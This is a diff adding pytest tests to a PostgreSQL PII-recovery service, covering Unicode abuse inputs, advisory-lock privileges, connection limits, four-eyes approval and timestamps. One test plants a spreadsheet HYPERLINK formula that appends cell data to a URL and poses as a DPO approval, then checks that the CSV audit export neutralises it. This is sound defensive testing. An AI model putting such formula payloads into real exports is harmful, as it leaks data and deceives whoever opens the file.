@@ -377,6 +377,11 @@ BAD_REASONS = {
     "newline and tabs": "INC-1\n2026-01-01T00:00:00\tlookup\t1\tsomeone_else",
     "oversized": "x" * 501,
     "bidirectional override": "INC-1 \u202etxt.exe",
+    "unassigned invisible": "\u2065",
+    "noncharacter": "\ufff0",
+    "tag character": "\U000e0002",
+    "combining marks alone": "\u0300\u0301",
+    "punctuation alone": "...",
 }
 
 
@@ -489,3 +494,67 @@ def test_one_login_cannot_fill_the_queue(job):
         ]
     assert states == ["pending"] * 20 + ["refused"]
     assert query(job.dsn, "SELECT outcome FROM pii.recovery_requests WHERE reason = 'Q-20'") == [("invalid_request",)]
+
+
+def test_a_spreadsheet_runs_no_formula_from_the_csv_audit(job):
+    formula = '=HYPERLINK("http://127.0.0.1:9/?"&B1,"ticket INC-4711 approved by DPO")'
+    with psycopg.connect(job.dsn, autocommit=True) as conn:
+        conn.execute(
+            "INSERT INTO pii.recovery_audit (login_user, direction, kind, token, found, outcome, reason)"
+            " VALUES (%s, 'token_to_value', 'ip', 'abc', true, 'found', %s)",
+            (OFFICER, formula),
+        )
+    (row,) = list(csv.reader(io.StringIO(job.run("audit", "--format", "csv").stdout)))[1:]
+    assert row[-1] == "'" + formula
+
+
+# ---------------------------------------------------------------- what an officer could do to the others
+
+
+def test_no_workload_but_the_transformer_may_take_an_advisory_lock(job):
+    """The transform lock (and the bootstrap's) cannot be taken, and held, by another login."""
+    for role in (config.PII_ADMIN_ROLE, config.ANALYST_ROLE, config.AUDITOR_ROLE, config.LOADER_ROLE,
+                 config.RECOVERY_SERVICE_ROLE):  # fmt: skip
+        with psycopg.connect(role_dsn(job.dsn, role), autocommit=True) as conn:
+            for statement in (
+                f"SELECT pg_advisory_lock({keys.TRANSFORM_LOCK})",
+                f"SELECT pg_try_advisory_xact_lock({keys.TRANSFORM_LOCK})",
+                "SELECT pg_advisory_lock_shared(1, 2)",
+            ):
+                with pytest.raises(psycopg.errors.InsufficientPrivilege):
+                    conn.execute(statement)
+    with psycopg.connect(role_dsn(job.dsn, config.TRANSFORMER_ROLE), autocommit=True) as conn:
+        assert conn.execute(f"SELECT pg_try_advisory_lock({keys.TRANSFORM_LOCK})").fetchone() == (True,)
+    with officer(job) as conn, pytest.raises(psycopg.errors.InsufficientPrivilege):
+        conn.execute("SELECT * FROM pii.recovery_budget_locks FOR UPDATE")
+
+
+def test_people_logins_have_a_connection_limit(job):
+    limits = dict(query(job.dsn, "SELECT rolname, rolconnlimit FROM pg_roles WHERE rolname LIKE 'loginvault%'"))
+    for workload in config.WORKLOADS.values():
+        assert limits[workload.local_login] == workload.connection_limit
+    assert limits[OFFICER] == 25
+
+
+def test_without_four_eyes_no_officer_can_decide_on_anothers_request(job):
+    token, _ = a_token(job)
+    other = second_officer(job)
+    with officer(job, other) as theirs, officer(job) as mine:
+        request_id = file_value(mine, token, "D-1")  # no service: it stays pending
+        assert theirs.execute("SELECT pii.decide_request(%s, false, 'no')", (request_id,)).fetchone() == (
+            "not_waiting",
+        )
+    assert query(job.dsn, "SELECT state FROM pii.recovery_requests") == [("pending",)]
+    assert query(job.dsn, "SELECT count(*) FROM pii.recovery_approvals") == [(0,)]
+
+
+def test_a_request_is_dated_when_it_is_filed_not_when_its_transaction_began(job):
+    token, _ = a_token(job)
+    with officer(job) as conn:
+        conn.execute("BEGIN")
+        (began,) = conn.execute("SELECT now()").fetchone()
+        conn.execute("SELECT pg_sleep(1.5)")
+        request_id = file_value(conn, token, "T-1")
+        conn.execute("COMMIT")
+    ((filed,),) = query(job.dsn, "SELECT requested_at FROM pii.recovery_requests WHERE id = %s", (request_id,))
+    assert (filed - began).total_seconds() >= 1.5
